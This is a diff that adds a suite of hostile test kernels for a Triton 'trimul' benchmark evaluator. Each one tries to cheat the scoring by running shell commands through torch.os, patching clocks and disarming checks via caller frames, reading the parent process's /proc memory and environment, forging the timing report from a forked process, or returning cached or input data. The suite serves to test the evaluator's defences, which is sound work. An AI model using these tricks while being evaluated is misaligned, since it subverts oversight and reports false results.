@@ -185,3 +185,267 @@ def custom_kernel(data):
         y = trimul(*data)
     return y
 '''
+
+
+# -- attacks on the evaluator itself (docs/method.md §5c, "whatever runs in the candidate's process") --
+#
+# Each computes the right answer (or tries not to have to) and goes after the machinery around it:
+# torch's re-exported modules (torch.os, torch.sys, torch.builtins, torch.importlib, torch.functools,
+# torch.threading), names built at run time, the evaluator's own reference, the caller's frames and
+# clock, files, processes that outlive the run. name -> (source, the phrase the static rules refuse
+# it with, or None where only the run can tell). tests/test_hostile_trimul.py runs them past the
+# rules too: there, none may get a better time than the honest kernel doing the same work.
+
+_CALLERS = '''
+
+look = torch.builtins.getattr  # attribute names built at run time: no rule reads them
+
+
+def callers():
+    """Every `self` up the stack: the driver (one process) or the kernel process's server (two)."""
+    frame = look(torch.sys, "_get" + "frame")(1)
+    found = []
+    while frame is not None:
+        me = look(frame, "f_" + "locals").get("self")
+        if me is not None and me not in found:
+            found.append(me)
+        frame = look(frame, "f_" + "back")
+    return found
+'''
+
+ATTACKS = {
+    # A shell command through torch's re-export of os.
+    "os_via_torch_runs_a_shell": (BASE + '''
+def custom_kernel(data):
+    torch.os.system("echo attack > attack-was-here; id >> attack-was-here")
+    return trimul(*data)
+''', "uses `torch.os`"),
+    # Every clock of the process patched, the driver's captured clock and its checks disarmed.
+    "patches_every_clock_and_the_checks": (BASE + _CALLERS + '''
+frozen = [0]
+
+
+def fake_ns():
+    frozen[0] += 1000
+    return frozen[0]
+
+
+put = torch.builtins.setattr
+clock = torch.sys.modules["time"]
+put(clock, "perf_counter_ns", fake_ns)
+put(clock, "perf_counter", lambda: fake_ns() / 1e9)
+put(clock, "monotonic", lambda: fake_ns() / 1e9)
+
+
+def disarm():
+    """The caller's captured clock replaced, its checks made to find nothing."""
+    for me in callers():
+        for name in ("perf_ns", "perf_counter_ns"):
+            if name in torch.builtins.vars(me):
+                put(me, name, fake_ns)
+        if "elapsed" in torch.builtins.vars(me):
+            put(me, "elapsed", lambda start, end: 1e-3)
+        captured = torch.builtins.vars(me).get("captured")
+        if captured is not None:
+            put(captured, "violation", lambda: "")
+
+
+disarm()  # at import: the process that loads the kernel checks right after
+
+
+def custom_kernel(data):
+    disarm()
+    return trimul(*data)
+''', "uses `torch.sys`"),
+    # functools.reduce(getattr, ...) builds `torch.os.system` from strings the rules never see as names.
+    "reduce_getattr_builds_names": (BASE + '''
+import functools
+
+run = functools.reduce(getattr, ["o" + "s", "sys" + "tem"], torch)
+
+
+def custom_kernel(data):
+    run("true")
+    return trimul(*data)
+''', "imports 'functools'"),
+    # The evaluator's own reference, found on disk and run without an import the driver could see.
+    "runs_the_evaluators_reference": (BASE + '''
+os = torch.os
+reference = {}
+for root in ["/work/main", "/work/wt-trimul", "/app", "/repo", os.getcwd()]:
+    path = os.path.join(root, "evaluators", "kernels", "trimul", "reference.py")
+    if os.path.exists(path):
+        try:
+            torch.builtins.exec(torch.builtins.open(path).read(), reference)
+        except OSError:
+            pass
+        break
+
+
+def custom_kernel(data):
+    if "trimul_reference" in reference:
+        return through_triton(reference["trimul_reference"](*data))
+    return trimul(*data)
+''', "uses `torch.os`"),
+    # The caller's call wrapped: after the first call, the driver's or server's `call` answers at once.
+    "wraps_the_drivers_call": (BASE + _CALLERS + '''
+def custom_kernel(data):
+    for me in callers():
+        call = getattr(me, "call", None)
+        if call is not None:
+            def answer_at_once(message, *rest, _real=call):
+                if isinstance(message, dict) and "id" in message:
+                    return {"id": message["id"], "done": True}
+                return _real(message, *rest)
+            torch.builtins.setattr(me, "call", answer_at_once)
+    return trimul(*data)
+''', "uses `torch.sys`"),
+    # The reply sent before the work: the server's reply function replaced, the work left to a thread.
+    "replies_early_and_finishes_in_a_thread": (BASE + _CALLERS + '''
+threading = torch.threading
+state = {"skip": 0}
+
+
+def custom_kernel(data):
+    for me in callers():
+        if hasattr(me, "sock") and not state.get("armed"):
+            server_globals = look(look(look(torch.sys, "_get" + "frame")(0), "f_" + "back"), "f_" + "globals")
+            real_send = server_globals["send_message"]
+
+            def send(sock, message, fds=()):
+                if state["skip"]:
+                    state["skip"] -= 1
+                    return None
+                return real_send(sock, message, fds)
+
+            def early_call(message, fds, _me=me):
+                views = _me.tensors_cpu(message["layout"], fds)
+                out = views.pop("out")
+                weights = {k[2:]: v for k, v in views.items() if k.startswith("w:")}
+                real_send(_me.sock, {"id": message["id"], "done": True})  # reply first
+                state["skip"] += 1  # and swallow the server's own reply
+
+                def work():  # plain PyTorch: Triton's interpreter runs on the calling thread only
+                    x, w, C, H = views["x"], weights, message["config"]["dim"], message["config"]["hidden_dim"]
+                    xn = F.layer_norm(x, (C,), w["norm.weight"], w["norm.bias"])
+                    m = views["mask"].unsqueeze(-1).to(x.dtype)
+                    left = F.linear(xn, w["left_proj.weight"]) * m * torch.sigmoid(F.linear(xn, w["left_gate.weight"]))
+                    right = F.linear(xn, w["right_proj.weight"]) * m * torch.sigmoid(F.linear(xn, w["right_gate.weight"]))
+                    y = F.layer_norm(torch.einsum("bikh,bjkh->bijh", left, right), (H,), w["to_out_norm.weight"], w["to_out_norm.bias"])
+                    out.copy_(F.linear(y * torch.sigmoid(F.linear(xn, w["out_gate.weight"])), w["to_out.weight"]))
+
+                threading.Thread(target=work, daemon=True).start()
+                return {"id": message["id"], "done": True}
+
+            server_globals["send_message"] = send
+            torch.builtins.setattr(me, "call", early_call)
+            torch.builtins.setattr(me.captured, "violation", lambda: "")
+            state["armed"] = True
+    return trimul(*data)
+''', "uses `torch.threading`"),
+    # Files through numpy and torch: the parent's memory and environment read, results saved and reloaded.
+    "reads_and_writes_files_with_numpy_and_torch": (BASE + '''
+import numpy as np
+
+os = torch.os
+leaked = {}
+for what in ("environ", "mem", "maps"):
+    try:
+        leaked[what] = np.fromfile(f"/proc/{os.getppid()}/{what}", dtype=np.uint8, count=4096)
+    except OSError as err:
+        leaked[what] = str(err)
+np.save("leaked.npy", np.zeros(3))
+np.fromfile("leaked.npy", dtype=np.uint8)
+
+
+def custom_kernel(data):
+    y = trimul(*data)
+    torch.save(y, "last.pt")
+    y.numpy().tofile("last.bin")
+    return through_triton(torch.from_numpy(np.fromfile("last.bin", dtype=np.float32)).view(y.shape))
+''', "imports 'numpy'"),
+    # A process that outlives the kernel and rewrites the run's report with forged times.
+    "forges_the_report_after_exit": (BASE + '''
+os = torch.os
+json = torch.sys.modules["json"]
+
+if os.fork() == 0:
+    os.setsid()
+    for _ in range(200000):
+        for path in ("output.json", "../output.json"):
+            if os.path.exists(path):
+                try:
+                    report = json.load(torch.builtins.open(path))
+                    for call in report.get("calls", []):
+                        if call.get("ms"):
+                            call["ms"] = 1e-6
+                    torch.builtins.open(path + ".forged", "w").write(json.dumps(report))
+                    os.replace(path + ".forged", path)
+                    os._exit(0)
+                except (OSError, ValueError):
+                    pass
+        torch.sys.modules["time"].sleep(0.0005)
+    os._exit(0)
+
+
+def custom_kernel(data):
+    return trimul(*data)
+''', "uses `torch.os`"),
+    # A thread started through torch's re-export, left spinning next to the timed calls.
+    "spawns_a_thread": (BASE + '''
+spin = torch.threading.Thread(target=lambda: sum(range(10 ** 9)), daemon=True)
+spin.start()
+
+
+def custom_kernel(data):
+    return trimul(*data)
+''', "uses `torch.threading`"),
+    # torch patched for everyone in the process: input generators zeroed, torch.equal always true.
+    "patches_torch_functions_globally": (BASE + '''
+zeros = torch.zeros
+torch.builtins.setattr(torch, "randn", lambda *a, **k: zeros(*a[:1], dtype=torch.float32))
+torch.builtins.setattr(torch, "equal", lambda a, b: True)
+
+
+def custom_kernel(data):
+    x = data[0]
+    return zeros(x.shape, dtype=torch.float32) + 0 * through_triton(x[..., :1]).sum()
+''', "uses `torch.builtins`"),
+    # The input handed back as the output (it has the output's shape and dtype).
+    "returns_its_input": (BASE + '''
+def custom_kernel(data):
+    return through_triton(data[0])
+''', None),
+    # The first result kept and returned for every later call of the same shape.
+    "returns_a_cached_result": (BASE + '''
+_results = {}
+
+
+def custom_kernel(data):
+    key = tuple(data[0].shape)
+    if key not in _results:
+        _results[key] = trimul(*data)
+    return _results[key].clone()
+''', None),
+}
+
+# A probe rather than a cheat: it tries to read the timer's memory and environment (its parent
+# process) and, if any read succeeds, returns a wrong output so that the test running it fails.
+ATTACKS["reads_the_timers_memory"] = (BASE + '''
+os = torch.os
+opened = []
+for what in ("mem", "environ", "fd"):
+    try:
+        path = f"/proc/{os.getppid()}/{what}"
+        if what == "fd":
+            opened.append(os.listdir(path))
+        else:
+            with torch.builtins.open(path, "rb") as f:
+                opened.append(f.read(64))
+    except OSError:
+        pass
+
+
+def custom_kernel(data):
+    return data[0] if opened else trimul(*data)
+''', "uses `torch.os`")
